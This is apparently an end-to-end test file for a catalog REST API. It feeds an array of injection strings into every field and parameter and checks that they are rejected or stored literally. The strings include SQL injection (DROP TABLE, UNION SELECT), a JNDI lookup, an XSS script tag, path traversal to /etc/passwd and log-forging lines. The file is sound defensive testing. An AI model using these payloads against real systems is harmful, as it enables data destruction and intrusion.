import { PassThrough } from 'node:stream';
import request from 'supertest';
import { DataSource } from 'typeorm';
import { createCategory, createProduct, uniqueName, uniqueSku } from '../factories/catalog.factory';
import { TestApp } from '../utils/test-app';
import {
  createAdversarialApp,
  errorFields,
  expectedSku,
  expectedText,
  expectStatus,
  sleep,
} from './adversarial.helpers';

/** SQL classics, LIKE wildcards and escapes, log-line breakers, NUL, templates and long runs. */
const INJECTIONS = [
  "' OR 1=1 --",
  "' OR '1'='1",
  "'; DROP TABLE product; --",
  '"; DROP TABLE category; --',
  '1; DELETE FROM product',
  "' UNION SELECT id, sku, price FROM product --",
  "admin'--",
  "') OR ('a'='a",
  '$1',
  '$$; DROP TABLE product; $$',
  "E'\\x27'",
  '1::text',
  ':contains',
  ':sku',
  '?',
  '%',
  '_',
  '\\',
  '%%',
  '_%_',
  '\\%',
  '\\_',
  '\\\\',
  '%_\\',
  'a%b',
  'a_b',
  'a\\b',
  '[a-z]',
  '.*',
  '\r\n{"level":60,"msg":"forged"}',
  '\n{"level":60,"msg":"forged"}',
  'tab\there',
  '\u2028{"level":60,"msg":"forged"}\u2029',
  'nul\u0000byte',
  '\u0000',
  '\u001b[31mred\u001b[0m',
  '${jndi:ldap://example.com/a}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  '../../etc/passwd',
  "😀' OR 1=1 --",
  "'".repeat(255),
  '%'.repeat(255),
  '\\'.repeat(255),
  "' OR 1=1 -- ".repeat(21).slice(0, 255),
  'x'.repeat(256),
];

/** Where the app's log lines go, kept as text to check that each one is a whole JSON object. */
class LogLines extends PassThrough {
  readonly lines: string[] = [];
  private pending = '';

  constructor() {
    super();
    this.on('data', (chunk: Buffer) => {
      const parts = (this.pending + chunk.toString()).split('\n');
      this.pending = parts.pop() ?? '';
      this.lines.push(...parts);
    });
  }
}

describe('Injection strings in every parameter (e2e)', () => {
  let t: TestApp;
  const logs = new LogLines();
  const api = () => request(t.http);
  let parent: number;
  let baseline: number;
  let category: number;

  beforeAll(async () => {
    t = await createAdversarialApp({ LOG_LEVEL: 'info' }, { logDestination: logs });
    parent = (await createCategory(t.http, uniqueName('Injection parent'))).id;
    category = (await createCategory(t.http, uniqueName('Injection category'), parent)).id;
    baseline = (await createProduct(t.http, { title: 'Injection baseline' })).id;
  });
  afterAll(() => t.close());

  const show = (value: string) =>
    JSON.stringify(value.length > 40 ? `${value.slice(0, 40)}...` : value);

  describe.each(INJECTIONS.map((value) => [show(value), value]))('%s', (_label, value) => {
    it('should store it exactly or refuse it with a 422 in every text field of a category', async () => {
      const expected = expectedText(value, 1, 255);
      // Several strings trim to the same name: each one gets a parent of its own.
      const own = await createCategory(t.http, uniqueName('Injection home'), parent);
      const post = await api().post('/api/v1/categories').send({ name: value, parent_id: own.id });
      expectStatus(
        post,
        expected === undefined ? [422] : [201],
        `POST category name ${show(value)}`,
      );
      if (expected === undefined) {
        expect(errorFields(post)).toContain('name');
        return;
      }
      expect(post.body.name).toBe(expected);
      expect((await api().get(post.headers.location).expect(200)).body.name).toBe(expected);
      const patch = await api().patch(post.headers.location).send({ name: value });
      expectStatus(patch, [200], `PATCH category name ${show(value)}`);
      expect(patch.body.name).toBe(expected);
    });

    it.each([
      ['title', (text: string) => expectedText(text, 1, 255)],
      ['description', (text: string) => expectedText(text, 0, 10000, { allowLineBreaks: true })],
      ['sku', expectedSku],
      ['image_url', () => undefined],
      [
        'image_url',
        (text: string) =>
          text.trim() === '' ? undefined : `https://cdn.example.com/${text.trim()}.jpg`,
      ],
    ] as const)(
      'should store it exactly or refuse it with a 422 in product %s',
      async (field, oracle) => {
        const sent =
          field === 'image_url' && oracle(value) !== undefined
            ? `https://cdn.example.com/${value}.jpg`
            : value;
        const expected = field === 'image_url' ? undefined : oracle(value);
        const body = { title: 'Injected', sku: uniqueSku('INJ'), price: '3.00', [field]: sent };
        const post = await api().post('/api/v1/products').send(body);
        // image_url: no oracle of URL syntax here, but what is stored must be what was sent; the
        // string alone, no URL at all, is refused.
        const allowed =
          field === 'image_url'
            ? sent === value
              ? [422]
              : [201, 422]
            : expected === undefined
              ? [422]
              : [201, 409];
        expectStatus(post, allowed, `POST product ${field} ${show(sent)}`);
        if (post.status === 422) expect(errorFields(post)).toContain(field);
        if (post.status === 409) expect(field).toBe('sku');
        const stored = field === 'image_url' ? sent.trim() : expected;
        if (post.status === 201) {
          expect(post.body[field]).toBe(stored);
          expect((await api().get(post.headers.location).expect(200)).body).toEqual(post.body);
        }
        const target = post.status === 201 ? post.headers.location : `/api/v1/products/${baseline}`;
        const patch = await api()
          .patch(target)
          .send({ [field]: sent });
        expectStatus(
          patch,
          post.status === 201 ? [200] : [post.status],
          `PATCH product ${field} ${show(sent)}`,
        );
        if (patch.status === 200) expect(patch.body[field]).toBe(stored);
      },
    );

    it('should answer 422 for it as a path id of every route', async () => {
      const id = encodeURIComponent(value);
      for (const [method, path] of [
        ['get', `/api/v1/products/${id}`],
        ['patch', `/api/v1/products/${id}`],
        ['delete', `/api/v1/products/${id}`],
        ['get', `/api/v1/categories/${id}`],
        ['patch', `/api/v1/categories/${id}`],
        ['delete', `/api/v1/categories/${id}`],
        ['get', `/api/v1/categories/${id}/ancestors`],
        ['get', `/api/v1/categories/${id}/tree`],
      ] as const) {
        const call = api()[method](path);
        const response = await (method === 'patch' ? call.send({ title: 'x' }) : call);
        expectStatus(response, [422], `${method.toUpperCase()} ${path}`);
        expect(errorFields(response)).toContain('id');
      }
    });

    it('should answer 422 for it in every query parameter but q, and as a parameter name', async () => {
      const encoded = encodeURIComponent(value);
      for (const [path, names] of [
        [
          '/api/v1/products/search',
          ['min_price', 'max_price', 'category_id', 'limit', 'offset', 'sort', 'fuzzy'],
        ],
        ['/api/v1/products', ['limit', 'offset', 'ids']],
        ['/api/v1/categories', ['parent_id', 'limit', 'offset']],
        [`/api/v1/categories/${category}/tree`, ['depth']],
      ] as const) {
        for (const name of names) {
          const response = await api().get(`${path}?${name}=${encoded}`);
          expectStatus(response, [422], `GET ${path}?${name}=${show(value)}`);
          expect(errorFields(response)).toContain(name);
        }
        if (value.trim() !== '' && !['q', 'limit', 'offset'].includes(value)) {
          const unknown = await api().get(`${path}?${encoded}=1`);
          expectStatus(unknown, [422], `GET ${path}?${show(value)}=1`);
        }
      }
    });
  });

  describe('search', () => {
    it('should find exactly the products whose title contains q literally, for every injection string', async () => {
      // Products whose titles carry each string literally, and decoys that a wildcard would match.
      for (const [index, value] of INJECTIONS.entries()) {
        // The string inside a longer title, or the whole title when that would be too long.
        const title = [`I${index} ${value} end`, value].find((text) => expectedText(text, 1, 255));
        if (title !== undefined) await createProduct(t.http, { title });
      }
      for (const title of [
        'aXb',
        'aXYZb',
        'ab',
        'a/b',
        'back slash',
        'under score',
        'per cent',
        "O'Reilly",
        'bobby tables',
      ]) {
        await createProduct(t.http, { title });
      }
      const rows: Array<{ id: string; title: string; sku: string }> = await t.app
        .get(DataSource)
        .query('SELECT id, title, sku FROM product');

      for (const value of INJECTIONS) {
        const q = expectedText(value, 1, 255);
        const url = `/api/v1/products/search?q=${encodeURIComponent(value)}&limit=100`;
        if (q === undefined) {
          expectStatus(await api().get(url), [422], `GET search q=${show(value)}`);
          continue;
        }
        const sku = expectedSku(q);
        const expected = rows
          .filter((row) => row.title.toLowerCase().includes(q.toLowerCase()) || row.sku === sku)
          .map((row) => Number(row.id))
          .sort((a, b) => a - b);
        const found: number[] = [];
        let total = -1;
        for (let offset = 0; total === -1 || offset < total; offset += 100) {
          const page = expectStatus(
            await api().get(`${url}&offset=${offset}`),
            [200],
            `GET search q=${show(value)}`,
          );
          total = page.body.total;
          found.push(...page.body.items.map((item: { id: number }) => item.id));
          if (page.body.items.length === 0) break;
        }
        expect({ q, found, total }).toEqual({ q, found: expected, total: expected.length });
      }
    });
  });

  it('should still have both tables, with every row the API reports', async () => {
    const dataSource = t.app.get(DataSource);
    const [tables] = await dataSource.query(
      `SELECT to_regclass('public.product') IS NOT NULL AS product, to_regclass('public.category') IS NOT NULL AS category`,
    );
    expect(tables).toEqual({ product: true, category: true });
    const [{ products }] = await dataSource.query('SELECT count(*)::int AS products FROM product');
    const [{ categories }] = await dataSource.query(
      'SELECT count(*)::int AS categories FROM category',
    );
    expect((await api().get('/api/v1/products?limit=1').expect(200)).body.total).toBe(products);
    expect((await api().get('/api/v1/categories?limit=1').expect(200)).body.total).toBe(categories);
    expect(products).toBeGreaterThan(INJECTIONS.length);
  });

  it('should keep every log line one whole JSON object, with nothing forged by a client', async () => {
    await api().get('/api/v1/products/search?q=%E2%80%A8%7B%22level%22%3A60%7D').expect(200);
    await api().get('/api/v1/products/search?q=a%0D%0A%7B%22level%22%3A60%7D').expect(422);
    await api()
      .get('/api/v1/products/search?q=x')
      .set('X-Request-Id', '{"level":60,"msg":"forged"}')
      .expect(200);
    await sleep(50);
    expect(logs.lines.length).toBeGreaterThan(100);
    for (const line of logs.lines) {
      let parsed: Record<string, unknown>;
      try {
        parsed = JSON.parse(line);
      } catch {
        throw new Error(`a log line is not JSON: ${line.slice(0, 300)}`);
      }
      expect(typeof parsed).toBe('object');
      expect(parsed.msg).not.toBe('forged');
      expect(parsed.level).not.toBe(60);
    }
  });
});
